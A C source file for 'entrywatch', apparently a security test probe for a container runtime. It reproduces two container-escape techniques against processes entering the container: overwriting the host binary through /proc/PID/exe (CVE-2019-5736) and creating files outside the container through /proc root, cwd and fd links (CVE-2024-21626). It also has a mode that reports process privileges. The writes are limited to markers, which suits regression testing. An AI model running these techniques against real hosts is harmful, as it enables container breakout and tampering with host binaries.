/* Probe: what a container process can do to a process that enters its
 * container (an `nrun exec` helper, a worker) during the moment it appears.
 *
 *   entrywatch exe SECONDS         for every new process: take an O_PATH handle on
 *                             its /proc/PID/exe, and once the process is gone
 *                             reopen the handle for writing and append a byte
 *                             (CVE-2019-5736).  "held <link>" for each handle,
 *                             "WROTE <link>" when a write worked.
 *   entrywatch status SECONDS  for every new process, as soon as it is seen:
 *                             "status PID CapEff=.. Seccomp=.. NoNewPrivs=.."
 *   entrywatch root SECONDS NAME   for every new process: if its root, cwd or an fd
 *                             is a directory that is not ours, create NAME in
 *                             it, and in `..` of each fd (CVE-2024-21626
 *                             through /proc/PID with CAP_SYS_PTRACE); the
 *                             test looks for NAME on the host.  "ESCAPED"
 *                             when a process has a root other than ours.
 *
 * Prints "ready" once it watches, "done" at the end; exits 3 when a write
 * worked, else 0.  Never targets PID 1 or itself. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAXP 4096
static char seen[32768 * 4];
static int held_fd[MAXP];
static int held_pid[MAXP];
static int nheld;

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + t.tv_nsec / 1e9;
}

static int try_write(int fd, const char *why)
{
    char p[64];
    snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
    int w = open(p, O_WRONLY | O_CLOEXEC);
    if (w < 0)
        return errno == ETXTBSY ? 1 : 0; /* busy: try again later */
    struct stat st;
    if (fstat(w, &st) == 0 && pwrite(w, "X", 1, st.st_size) == 1) {
        char l[256] = "";
        readlink(p, l, sizeof l - 1);
        printf("WROTE %s (%s)\n", l, why);
        fflush(stdout);
        exit(3);
    }
    close(w);
    return 0;
}

/* Create name in dir: harmless inside our own tree, an escape on the host
 * (the test looks for it there). */
static void make_marker(const char *dir, const char *name)
{
    int d = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (d < 0)
        return;
    int f = openat(d, name, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
    if (f >= 0)
        close(f);
    close(d);
}

static void look_root(int pid, const char *name)
{
    char p[96], q[400];
    struct stat a, b;
    snprintf(p, sizeof p, "/proc/%d/root", pid);
    if (stat(p, &a) == 0 && stat("/", &b) == 0 && (a.st_dev != b.st_dev || a.st_ino != b.st_ino)) {
        printf("ESCAPED: pid %d has another root\n", pid);
        fflush(stdout);
        snprintf(q, sizeof q, "%s/tmp", p);
        make_marker(q, name);
        make_marker(p, name);
    }
    snprintf(p, sizeof p, "/proc/%d/cwd", pid);
    make_marker(p, name);
    snprintf(p, sizeof p, "/proc/%d/fd", pid);
    DIR *d = opendir(p);
    if (!d)
        return;
    struct dirent *e;
    while ((e = readdir(d))) {
        if (e->d_name[0] == '.')
            continue;
        snprintf(q, sizeof q, "%s/%s", p, e->d_name);
        make_marker(q, name);
        char up[420];
        snprintf(up, sizeof up, "%s/..", q);
        make_marker(up, name);
    }
    closedir(d);
}

/* The privileges a process has right now. */
static void show_status(int pid)
{
    char p[64], line[256], out[512] = "";
    snprintf(p, sizeof p, "/proc/%d/status", pid);
    FILE *f = fopen(p, "r");
    if (!f)
        return;
    while (fgets(line, sizeof line, f)) {
        line[strcspn(line, "\n")] = 0;
        char *v = strchr(line, ':');
        if (!v || (strncmp(line, "CapEff:", 7) && strncmp(line, "Seccomp:", 8) && strncmp(line, "NoNewPrivs:", 11)))
            continue;
        *v++ = 0;
        v += strspn(v, " \t");
        snprintf(out + strlen(out), sizeof out - strlen(out), " %s=%s", line, v);
    }
    fclose(f);
    if (!out[0])
        return; /* gone between the open and the read: nothing to show */
    printf("status %d%s\n", pid, out);
    fflush(stdout);
}

int main(int argc, char **argv)
{
    if (argc < 3 || (strcmp(argv[1], "exe") && strcmp(argv[1], "root") && strcmp(argv[1], "status")) ||
        (!strcmp(argv[1], "root") && argc < 4)) {
        fprintf(stderr, "usage: entrywatch exe|status SECONDS | entrywatch root SECONDS NAME\n");
        return 2;
    }
    int exe = !strcmp(argv[1], "exe"), status = !strcmp(argv[1], "status");
    double end = now() + atof(argv[2]);
    int self = getpid();
    /* what runs already is not new */
    DIR *d = opendir("/proc");
    struct dirent *e;
    while ((e = readdir(d)))
        if (atoi(e->d_name) > 0 && atoi(e->d_name) < (int)sizeof seen)
            seen[atoi(e->d_name)] = 1;
    printf("ready\n");
    fflush(stdout);
    while (now() < end) {
        rewinddir(d);
        while ((e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 1 || pid == self || pid >= (int)sizeof seen || seen[pid])
                continue;
            if (exe) {
                /* tried on every pass until it works: the helper is closed
                 * to us (not dumpable) until it executes the image's file */
                char p[64];
                snprintf(p, sizeof p, "/proc/%d/exe", pid);
                int fd = open(p, O_PATH | O_CLOEXEC);
                if (fd >= 0)
                    seen[pid] = 1;
                if (fd >= 0 && nheld < MAXP) {
                    char l[256] = "";
                    readlink(p, l, sizeof l - 1);
                    printf("held %s\n", l);
                    fflush(stdout);
                    held_fd[nheld] = fd;
                    held_pid[nheld++] = pid;
                    try_write(fd, "while running");
                }
            } else if (status) {
                seen[pid] = 1;
                show_status(pid);
            } else {
                seen[pid] = 1;
                look_root(pid, argv[3]);
            }
        }
        /* a handle on an exe whose process is gone: the file is not busy
         * any more unless something else runs it */
        for (int i = 0; i < nheld; i++)
            if (held_fd[i] >= 0 && kill(held_pid[i], 0) < 0 && errno == ESRCH) {
                if (!try_write(held_fd[i], "after exit")) {
                    close(held_fd[i]);
                    held_fd[i] = -1;
                }
            }
    }
    closedir(d);
    printf("done\n");
    return 0;
}
